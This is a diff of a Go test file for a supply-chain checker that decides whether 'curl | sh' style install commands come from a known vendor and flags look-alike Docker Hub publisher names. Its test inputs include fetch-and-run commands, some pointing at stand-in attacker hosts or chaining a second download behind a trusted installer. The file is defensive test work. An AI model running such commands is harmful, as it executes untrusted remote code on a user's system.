@@ -66,7 +66,9 @@ func TestVendorInstaller(t *testing.T) {
 		"curl -sSf https://sh.rustup.rs | sh":                             "sh.rustup.rs",
 		"curl https://sh.rustup.rs.evil.example | sh":                     "",
 		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh": "",
-		"echo no url here": "",
+		"echo no url here":                    "",
+		"curl -sS https://webi.sh/shfmt | sh": "webi.sh/",
+		"iex (new-object net.webclient).downloadstring('https://get.scoop.sh')": "get.scoop.sh",
 		// A well-known owner's own installer on a forge; anyone else's is not a vendor's.
 		"curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh": "raw.githubusercontent.com/aquasecurity",
 		"curl -sfL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh":                "",
@@ -157,6 +159,15 @@ func TestImageName(t *testing.T) {
 	} {
 		if got := ImageName(in); got != want {
 			t.Errorf("ImageName(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// A language's own Docker Hub namespace is no look-alike of another's.
+func TestLookalikePublisherLanguages(t *testing.T) {
+	for ns, want := range map[string]string{"rubylang": "", "rustlang": "", "rustiang": "rustlang", "bitnarni": "bitnami"} {
+		if got := LookalikePublisher(ns); got != want {
+			t.Errorf("LookalikePublisher(%q) = %q, want %q", ns, got, want)
 		}
 	}
 }
